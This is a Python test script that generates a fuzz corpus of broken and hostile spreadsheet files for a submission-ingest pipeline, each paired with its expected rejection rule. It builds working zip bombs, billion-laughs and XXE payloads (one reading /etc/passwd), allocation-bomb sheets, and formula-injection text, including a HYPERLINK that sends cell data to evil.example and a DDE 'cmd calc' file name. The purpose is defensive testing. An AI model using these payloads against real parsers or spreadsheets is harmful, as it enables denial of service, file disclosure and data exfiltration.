#!/usr/bin/env python
"""Generate the fuzz corpus: broken and hostile files, and the manifest of how each must end.

    python tests/fuzz/make_fuzz.py [OUT_DIR]

OUT_DIR defaults to tests/fuzz/corpus/ next to this script (ignored by git). Output is byte-for-byte
deterministic: fixed zip times, a seeded random generator, the project's own template writer for the
well-formed workbooks.

Manifest entries (OUT_DIR/manifest.json, one per file):
  file       the file's name in OUT_DIR (plain ASCII)
  inbox_name the name it lands under in the inbox (spaces, emoji, 255 bytes, control characters…), or
  inbox_name_hex  the same as raw bytes, for a name that is not UTF-8 (a GBK name from a USB stick)
  category, exercises
  status     "rejected", or "loaded" where the file is legitimately fine (a hostile name on a good table,
             text that merely starts with =)
  rule       a rule among the errors a rejected file must get (or a list: any one of them)
  unit_code, as_of_date   for loaded files
  notes      why the expectation is what it is
"""

from __future__ import annotations

import datetime as dt
import io
import json
import random
import struct
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parent.parent
sys.path.insert(0, str(REPO))

from transforms.core.layout import SHIPPED_REFERENCE  # noqa: E402
from transforms.core.reference import load_reference  # noqa: E402
from transforms.read.template import FilledRow, write_submission  # noqa: E402

DEFAULT_OUT = HERE / "corpus"
ZIP_TIME = (2023, 12, 20, 0, 0, 0)
MiB = 2**20

CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/xl/workbook.xml" '
      'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
      '<Override PartName="/xl/worksheets/sheet1.xml" '
      'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
      '<Override PartName="/xl/sharedStrings.xml" '
      'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="统计表" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                 '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SHARED_STRINGS = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst {NS} count="1" uniqueCount="1">'
                  "<si><t>填报单位</t></si></sst>")
LOL = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
       '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
       '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>')


def sheet_xml(rows: str, prolog: str = "", after: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}<worksheet {NS}>'
            f"<sheetData>{rows}</sheetData>{after}</worksheet>")


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def zip_bytes(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with fixed times, so the same parts are the same bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = method
            archive.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return buffer.getvalue()


def xlsx(sheet: str, shared: str = SHARED_STRINGS, workbook: str = WORKBOOK) -> bytes:
    return zip_bytes({"[Content_Types].xml": CT, "_rels/.rels": RELS, "xl/workbook.xml": workbook,
                      "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, "xl/sharedStrings.xml": shared,
                      "xl/worksheets/sheet1.xml": sheet})


def raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A deflated zip written by hand: (name, compressed data, declared size, crc, compression method).

    Declared sizes and checksums are whatever the caller says, which is how a zip lies about its contents.
    """
    out, central = bytearray(), bytearray()
    for name, data, size, crc, method in members:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x5794, crc, len(data), size,
                           len(encoded), 0) + encoded + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x5794, crc, len(data),
                               size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + end)


def deflated_spaces(total: int, with_crc: bool = True) -> tuple[bytes, int]:
    """`total` bytes of spaces, deflated, and their CRC; built from one flushed block, repeated."""
    block_size = MiB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b" " * block_size) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc, chunk = 0, b" " * block_size
    for _ in range(total // block_size if with_crc else 0):
        crc = zlib.crc32(chunk, crc)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # an empty last block
    return block * (total // block_size) + final, crc


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (what Excel writes for a password-protected .xlsx) holding `streams`.

    Every stream is padded to whole sectors of at least 4096 bytes, so that it lives in ordinary sectors (no
    mini stream).
    """
    sector = 512
    names = list(streams)
    data = [streams[n].ljust(max(4096, -(-len(streams[n]) // sector) * sector), b"\0") for n in names]
    first = [2]
    for d in data[:-1]:
        first.append(first[-1] + len(d) // sector)
    total = first[-1] + len(data[-1]) // sector
    fat = [0xFFFFFFFD, 0xFFFFFFFE]  # sector 0: the FAT itself; sector 1: the directory
    for start, d in zip(first, data):
        count = len(d) // sector
        fat += [start + i + 1 for i in range(count - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", 0xFFFFFFFF, right, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
                + struct.pack("<IQ", start, size))

    # Directory: the root, then the streams as a right-leaning chain (shorter names sort first).
    ordered = sorted(range(len(names)), key=lambda i: (len(names[i]), names[i].upper()))
    entries = [entry("Root Entry", 5, ordered[0] + 1, 0xFFFFFFFF, 0xFFFFFFFE, 0)]
    for i, name in enumerate(names):
        position = ordered.index(i)
        right = ordered[position + 1] + 1 if position + 1 < len(ordered) else 0xFFFFFFFF
        entries.append(entry(name, 2, 0xFFFFFFFF, right, first[i], len(streams[name])))
    while len(entries) % 4:
        entries.append(b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", *[0xFFFFFFFF] * 3)
                       + b"\0" * 48)
    header = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
              + struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF) * 108)
    body = struct.pack(f"<{sector // 4}I", *fat) + b"".join(entries) + b"".join(data)
    assert len(body) == (total) * sector
    return header + body


def xlsb_far_corner() -> bytes:
    """An .xlsb (binary records, which the precheck does not parse) with cells at A1 and XFD1048576."""

    def record(kind: int, payload: bytes = b"") -> bytes:
        out = bytearray()
        for value in (kind, len(payload)):
            while True:
                byte, value = value & 0x7F, value >> 7
                out.append(byte | (0x80 if value else 0))
                if not value:
                    break
        return bytes(out) + payload

    def wide(text: str) -> bytes:
        return struct.pack("<I", len(text)) + text.encode("utf-16-le")

    def row(number: int) -> bytes:
        return record(0x00, struct.pack("<IIHBBBI", number, 0, 0, 0, 0, 0, 0))

    def number(column: int, value: float) -> bytes:
        return record(0x05, struct.pack("<IId", column, 0, value))

    workbook = (record(0x83) + record(0x8F) + record(0x9C, struct.pack("<II", 0, 1) + wide("rId1") + wide("统计表"))
                + record(0x90) + record(0x84))
    sheet = (record(0x81) + record(0x94, struct.pack("<IIII", 0, 1, 0, 1)) + record(0x91)
             + row(0) + number(0, 1.0) + row(1_048_575) + number(16_383, 2.0) + record(0x92) + record(0x82))
    types = CT.replace('Extension="xml" ContentType="application/xml"/>',
                       'Extension="xml" ContentType="application/xml"/><Default Extension="bin" '
                       'ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>')
    return zip_bytes({"[Content_Types].xml": types, "_rels/.rels": RELS.replace("workbook.xml", "workbook.bin"),
                      "xl/workbook.bin": workbook,
                      "xl/_rels/workbook.bin.rels": WORKBOOK_RELS.replace("sheet1.xml", "sheet1.bin"),
                      "xl/worksheets/sheet1.bin": sheet})


def ods(content_body: str, manifest_extra: str = "", content: bytes | None = None) -> bytes:
    doc = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
           'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
           f'<office:body><office:spreadsheet><table:table table:name="统计表">{content_body}</table:table>'
           "</office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                f'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
                f"{manifest_extra}</manifest:file-entry></manifest:manifest>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        mimetype = zipfile.ZipInfo("mimetype", ZIP_TIME)
        archive.writestr(mimetype, "application/vnd.oasis.opendocument.spreadsheet")
        for name, data in (("content.xml", content if content is not None else doc.encode()),
                           ("META-INF/manifest.xml", manifest.encode())):
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def template(ref, sender: str, day: dt.date, rows: list[FilledRow]) -> bytes:
    """A filled standard workbook, written by the project's own template writer."""
    with tempfile.TemporaryDirectory() as scratch:
        path = write_submission(Path(scratch) / "t.xlsx", ref, sender, day, rows)
        return path.read_bytes()


def good(ref, day: int, sender: str = "浈江区民政局", label: str = "犁市镇") -> bytes:
    return template(ref, sender, dt.date(2023, 12, day), [FilledRow(label, {"走访慰问户数（户）": 100 + day})])


def corpus() -> list[tuple[dict, bytes]]:
    """(manifest entry, bytes) for every fuzz file."""
    ref = load_reference(SHIPPED_REFERENCE)
    rng = random.Random(20231220)
    base = good(ref, 16)
    files: list[tuple[dict, bytes]] = []

    def add(file: str, category: str, exercises: str, status: str, content: bytes, rule: str | None = None,
            notes: str = "", **extra) -> None:
        files.append(({"file": file, "category": category, "exercises": exercises, "status": status,
                       "rule": rule, "notes": notes, **extra}, content))

    def rejected(file, category, exercises, content, rule, notes=""):
        add(file, category, exercises, "rejected", content, rule, notes)

    # --- broken files ------------------------------------------------------------------------------------
    rejected("empty.xlsx", "broken", "an empty file (0 bytes)", b"", "empty-file")
    add("empty.csv", "broken", "an empty CSV (0 bytes) after an empty .xlsx", "duplicate", b"",
        notes="the same bytes as empty.xlsx: one submission, recorded as a duplicate of that rejected file")
    rejected("truncated_60pct.xlsx", "broken", "a workbook cut at 60% of its bytes", base[:len(base) * 6 // 10],
             "unreadable-file")
    rejected("truncated_last_bytes.xlsx", "broken", "a workbook missing its last 10 bytes (end of the zip directory)",
             base[:-10], "unreadable-file")
    rejected("being_written.xlsx", "broken", "a workbook still being written: what a reader sees half-way "
             "(local entries, no zip directory yet)", base[:len(base) // 2], "unreadable-file",
             "a file whose size still changes while it is read is left in the inbox instead (test_ingest)")
    corrupt = bytearray(base)
    sheet_at = corrupt.find(b"xl/worksheets/sheet1.xml") + 60
    corrupt[sheet_at:sheet_at + 40] = bytes(rng.randrange(256) for _ in range(40))
    rejected("corrupt_deflate_stream.xlsx", "broken", "damaged bytes inside a sheet's compressed data, zip "
             "directory intact", bytes(corrupt), "unreadable-file")
    rejected("random_bytes.xlsx", "broken", "20 KB of random bytes named .xlsx",
             bytes(rng.randrange(256) for _ in range(20_000)), "not-a-workbook")
    rejected("random_bytes_after_zip_magic.xlsx", "broken", "zip magic followed by random bytes",
             b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(20_000)), "unreadable-file")
    rejected("random_bytes.xls", "broken", "random bytes named .xls",
             bytes(rng.randrange(256) for _ in range(20_000)), "not-a-workbook")
    rejected("random_bytes.csv", "broken", "random bytes named .csv (neither UTF-8 nor GB18030)",
             bytes(rng.randrange(128, 256) for _ in range(20_000)), "csv-encoding")
    rejected("web_page_saved_as.xls", "broken", "an HTML table saved as .xls, as some systems export",
             "<html><body><table><tr><td>填报单位</td><td>浈江区</td></tr></table></body></html>".encode(),
             "not-a-workbook")
    rejected("report.pdf", "broken", "a file type warmline does not read", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n",
             "unreadable-file", "unsupported type: the reader names what to send instead")

    # --- zip bombs ---------------------------------------------------------------------------------------
    spaces, crc = deflated_spaces(1024 * MiB)
    rejected("zip_bomb_1gib_declared.xlsx", "zip bomb", "a 1 MiB file whose sheet inflates to 1 GiB of spaces "
             "(sizes declared honestly)", raw_zip([
                 ("[Content_Types].xml", zlib.compress(CT.encode())[2:-4], len(CT.encode()),
                  zlib.crc32(CT.encode()), 8),
                 ("xl/worksheets/sheet1.xml", spaces, 1024 * MiB, crc, 8)]), "file-too-large")
    big, _ = deflated_spaces(4096 * MiB, with_crc=False)
    rejected("zip_bomb_4gib_lying_sizes.xlsx", "zip bomb", "a 4 MiB file whose sheet claims 1 KB and inflates "
             "to 4 GiB (the one that aborts calamine)", raw_zip([
                 ("[Content_Types].xml", zlib.compress(CT.encode())[2:-4], len(CT.encode()),
                  zlib.crc32(CT.encode()), 8),
                 ("xl/worksheets/sheet1.xml", big, 1024, zlib.crc32(b" " * 1024), 8)]), "unsafe-file",
             "the precheck inflates each part itself and counts what comes out, not what the zip claims")
    many = {f"xl/media/image{i}.xml": "<a/>" for i in range(20_000)}
    rejected("zip_20000_parts.xlsx", "zip bomb", "20,000 tiny parts (a directory bomb)", zip_bytes(many),
             "unsafe-file")

    # --- XML attacks -------------------------------------------------------------------------------------
    rejected("billion_laughs_in_sheet.xlsx", "xml", "entity expansion (billion laughs) inside the sheet XML",
             xlsx(sheet_xml(f'<row r="1">{inline("A1", "&lol4;")}</row>', prolog=LOL)), "unsafe-file")
    rejected("billion_laughs_in_shared_strings.xlsx", "xml", "entity expansion inside sharedStrings.xml",
             xlsx(sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
                  shared=f'<?xml version="1.0"?>{LOL}<sst {NS} count="1" uniqueCount="1"><si><t>&lol4;</t></si></sst>'),
             "unsafe-file")
    rejected("xxe_file_entity.xlsx", "xml", "an external entity reading /etc/passwd (XXE)",
             xlsx(sheet_xml(f'<row r="1">{inline("A1", "&xxe;")}</row>',
                            prolog='<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')), "unsafe-file")
    rejected("xml_declared_gbk.xlsx", "wrong encoding", "a sheet part encoded in GBK, declared as such",
             xlsx(sheet_xml(f'<row r="1">{inline("A1", "填报单位：浈江区")}</row>')
                  .replace('encoding="UTF-8"', 'encoding="GBK"').encode("gbk")), "unreadable-file",
             "calamine reads UTF-8 XML only and says so: a clean error, in the worker")

    # --- sizes that make the reader allocate ---------------------------------------------------------------
    rejected("far_corner_A1_XFD1048576.xlsx", "huge sheet", "a 1 KB workbook with cells at A1 and XFD1048576 "
             "(calamine allocates 512 GiB and aborts)",
             xlsx(sheet_xml(f'<row r="1">{inline("A1", "x")}</row><row r="1048576"><c r="XFD1048576"><v>1</v>'
                            "</c></row>")), "sheet-too-large")
    rejected("far_corner_with_namespace_prefix.xlsx", "huge sheet", "the same far corner written as <x:c>",
             xlsx(sheet_xml(f'<row r="1">{inline("A1", "x")}</row><row r="1048576"><c r="XFD1048576"><v>1</v>'
                            "</c></row>").replace("<worksheet ", "<x:worksheet ").replace(NS, NS.replace(
                                "xmlns=", "xmlns:x=")).replace("</worksheet>", "</x:worksheet>")
                  .replace("<sheetData>", "<x:sheetData>").replace("</sheetData>", "</x:sheetData>")
                  .replace("<row ", "<x:row ").replace("</row>", "</x:row>").replace("<c ", "<x:c ")
                  .replace("</c>", "</x:c>").replace("<v>", "<x:v>").replace("</v>", "</x:v>")
                  .replace("<is>", "<x:is>").replace("</is>", "</x:is>").replace("<t>", "<x:t>")
                  .replace("</t>", "</x:t>")), "sheet-too-large")
    rejected("cell_beyond_xfd.xlsx", "huge sheet", "a cell at ZZZZZ1, beyond Excel's last column",
             xlsx(sheet_xml('<row r="1"><c r="A1"><v>1</v></c><c r="ZZZZZ1"><v>2</v></c></row>')), "unsafe-file")
    rejected("merge_beyond_sheet.xlsx", "huge sheet", "a merged range to ZZZZZZ99999999",
             xlsx(sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>',
                            after='<mergeCells count="1"><mergeCell ref="A1:ZZZZZZ99999999"/></mergeCells>')),
             "unsafe-file")
    rejected("shared_strings_count_4e9.xlsx", "huge sheet", "sharedStrings declaring 4,000,000,000 strings "
             "(calamine preallocates and aborts)",
             xlsx(sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
                  shared=SHARED_STRINGS.replace('count="1" uniqueCount="1"',
                                                'count="4000000000" uniqueCount="4000000000"')), "unsafe-file")
    rejected("xlsb_far_corner.xlsb", "huge sheet", "binary workbook with cells at A1 and XFD1048576: passes the "
             "precheck (it does not parse .xlsb records) and aborts the reader", xlsb_far_corner(),
             "read-out-of-memory", "proves the second defence: the worker dies, the run goes on")
    damaged = small_xls({1671: 242})
    if damaged:
        rejected("xls_one_damaged_byte.xls", "broken", "a small .xls with one byte changed (offset 1671), as a worn "
                 "USB stick leaves it: calamine 0.37 tries to allocate 343 GB and aborts", damaged,
                 ["read-out-of-memory", "unreadable-file"],
                 "the precheck does not parse .xls records; the worker dies and is replaced. A later calamine may "
                 "report a clean error instead: either is a correct rejection")
    xls = _xls_far_corner()
    if xls:
        rejected("xls_far_corner.xls", "huge sheet", "a 6 KB .xls with cells at A1 and IV65536 (calamine builds "
                 "a 16.7M-cell grid, ~1 GB, inside the worker)", xls, "sheet-too-large")
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>第{r}户</t></is></c><c r="B{r}"><v>1</v></c>'
                   f'<c r="C{r}"><v>{r % 500}</v></c></row>' for r in range(5, 200_005))
    header = (f'<row r="1">{inline("A1", "填报单位：浈江区")}</row><row r="2">{inline("A2", "统计截止日期：2023-12-20")}'
              f'</row><row r="4">{inline("A4", "户主")}{inline("B4", "走访慰问户数（户）")}{inline("C4", "发放资金（元）")}</row>')
    rejected("sheet_200k_rows.xlsx", "huge sheet", "a sheet of 200,000 household rows",
             xlsx(sheet_xml(header + rows)), "too-many-rows")
    lines = ["填报单位：浈江区", "统计截止日期：2023-12-20", "户主,走访慰问户数（户）,发放资金（元）"]
    lines += [f"第{r}户,1,{r % 500}" for r in range(200_000)]
    rejected("sheet_200k_rows.csv", "huge sheet", "a CSV of 200,000 household rows",
             ("\n".join(lines) + "\n").encode("utf-8"), "too-many-rows")
    cell = ('<table:table-cell table:number-columns-repeated="16" office:value-type="float" office:value="1">'
            "<text:p>1</text:p></table:table-cell>")
    rejected("ods_million_repeated_rows.ods", "huge sheet", "OpenDocument: one row of 16 cells repeated 1,048,576 "
             "times (a 2 KB file)",
             ods(f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'), "sheet-too-large")

    # --- encodings ---------------------------------------------------------------------------------------
    table = "填报单位：浈江区民政局\n统计截止日期：2023-12-20\n镇（街道）,走访慰问户数（户）,发放资金（元）\n犁市镇,120,5000\n花坪镇,80,3000\n"
    rejected("csv_utf16.csv", "wrong encoding", "CSV saved as 'Unicode Text' (UTF-16)", table.encode("utf-16"),
             "csv-encoding")
    traditional = ("填報單位：湞江區民政局\n統計截止日期：2023-12-20\n鎮（街道）,走訪慰問戶數（戶）,發放資金（元）\n"
                   "犁市鎮,120,5000\n花坪鎮,80,3000\n")
    rejected("csv_big5.csv", "wrong encoding", "CSV in Big5 (Traditional Chinese), which decodes as GB18030 "
             "into nonsense", traditional.encode("big5", errors="replace"), "csv-encoding")

    # --- password-protected --------------------------------------------------------------------------------
    rejected("password_protected.xlsx", "password", "an encrypted workbook (OLE compound file with "
             "EncryptionInfo), as Excel saves any .xlsx with a password",
             compound_file({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
                            "EncryptedPackage": bytes(rng.randrange(256) for _ in range(6000))}), "encrypted-file")
    rejected("password_protected.ods", "password", "an OpenDocument spreadsheet saved with a password",
             ods("", manifest_extra='<manifest:encryption-data manifest:checksum-type="SHA1/1K" '
                                    'manifest:checksum="AAAA"/>',
                 content=bytes(rng.randrange(256) for _ in range(3000))),
             "encrypted-file")

    # --- text that a spreadsheet would run as a formula ------------------------------------------------------
    add("formula_like_labels.xlsx", "formula text", "town labels starting with = + - @ and a tab: just text, "
        "loaded; every CSV written from them is defused", "loaded",
        template(ref, "浈江区民政局", dt.date(2023, 12, 17), [
            FilledRow('=HYPERLINK("http://evil.example/?"&A1,"点击查看")', {"走访慰问户数（户）": 11}),
            FilledRow("+犁市镇", {"走访慰问户数（户）": 12}),
            FilledRow("-花坪镇", {"走访慰问户数（户）": 13}),
            FilledRow("@乐园镇", {"走访慰问户数（户）": 14}),
            FilledRow("\t东河街道", {"走访慰问户数（户）": 15}),
        ]), unit_code="440204", as_of_date="2023-12-17")
    rejected("formula_text_in_figure_cell.xlsx", "formula text", "a figure cell holding the text =1+2",
             template(ref, "浈江区民政局", dt.date(2023, 12, 18), [FilledRow("犁市镇", {"走访慰问户数（户）": "=1+2"})]),
             "not-a-number")

    # --- hostile file names ------------------------------------------------------------------------------
    add("name_spaces.xlsx", "file name", "a name with spaces, inside and at the end", "loaded", good(ref, 19),
        inbox_name="浈江区 寒冬 送温暖 统计表 .xlsx", unit_code="440204", as_of_date="2023-12-19")
    add("name_emoji.xlsx", "file name", "a name with emoji", "loaded", good(ref, 20),
        inbox_name="🔥浈江区_统计表😀🧧.xlsx", unit_code="440204", as_of_date="2023-12-20")
    add("name_backslash_dotdot.xlsx", "file name", r"a name with ..\..\ (a Windows path, one name on Linux)",
        "loaded", good(ref, 21), inbox_name="..\\..\\浈江区统计表.xlsx", unit_code="440204", as_of_date="2023-12-21",
        notes="names starting with . are editors' temporary files to the daily flow; the Ingestor reads any name")
    add("name_formula.xlsx", "file name", "a name a spreadsheet would run as a formula: loaded; the bulletin's "
        "figures.csv, which names each source file, defuses it", "loaded", good(ref, 23),
        inbox_name="=cmd|' \\C calc'!A0.xlsx", unit_code="440204", as_of_date="2023-12-23")
    add("name_longest.xlsx", "file name", "the longest name ext4 allows: 255 bytes (83 CJK characters + .xlsx); "
        "its report name must be shortened", "rejected", b"PK\x03\x04 cut short",
        inbox_name="浈" * 83 + ".xlsx", rule="unreadable-file")
    add("name_control_characters.xlsx", "file name", "a name with a newline, an escape sequence and a "
        "right-to-left override", "rejected", bytes(rng.randrange(256) for _ in range(500)),
        inbox_name="南雄市\n报表\x1b[31m\u202excod.xlsx", rule="not-a-workbook")
    add("name_gbk_bytes.xlsx", "file name", "a name in GBK bytes (a USB stick formatted on Chinese Windows): "
        "sender and date come from the name, decoded as GB18030", "loaded",
        xlsx(sheet_xml(f'<row r="1">{inline("A1", "镇（街道）")}{inline("B1", "走访慰问户数（户）")}</row>'
                       f'<row r="2">{inline("A2", "全县")}<c r="B2"><v>222</v></c></row>')),
        inbox_name_hex="始兴县_20231222.xlsx".encode("gbk").hex(), unit_code="440222", as_of_date="2023-12-22")
    return files


def small_xls(changes: dict[int, int] | None = None) -> bytes | None:
    """A small .xls (xlwt: deterministic bytes) of the standard layout, with bytes changed at given offsets."""
    try:
        import xlwt
    except ImportError:
        print("xlwt is not installed: .xls fuzz files skipped", file=sys.stderr)
        return None
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("统计表")
    for r, (label, value) in enumerate([("填报单位：浈江区", None), ("统计截止日期：2023-12-20", None),
                                        ("镇（街道）", "走访慰问户数（户）")] + [(f"镇{r}", r) for r in range(3, 8)]):
        sheet.write(r, 0, label)
        if value is not None:
            sheet.write(r, 1, value)
    buffer = io.BytesIO()
    book.save(buffer)
    content = bytearray(buffer.getvalue())
    for offset, value in (changes or {}).items():
        content[offset] = value
    return bytes(content)


def _xls_far_corner() -> bytes | None:
    try:
        import xlwt
    except ImportError:
        return None
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("统计表")
    sheet.write(0, 0, "填报单位：浈江区")
    sheet.write(65535, 255, 1)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def main(argv: list[str]) -> int:
    out = Path(argv[0]) if argv else DEFAULT_OUT
    out.mkdir(parents=True, exist_ok=True)
    entries = []
    for entry, content in corpus():
        (out / entry["file"]).write_bytes(content)
        entries.append(entry)
    (out / "manifest.json").write_text(json.dumps(entries, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    print(f"wrote {len(entries)} fuzz files and manifest.json to {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
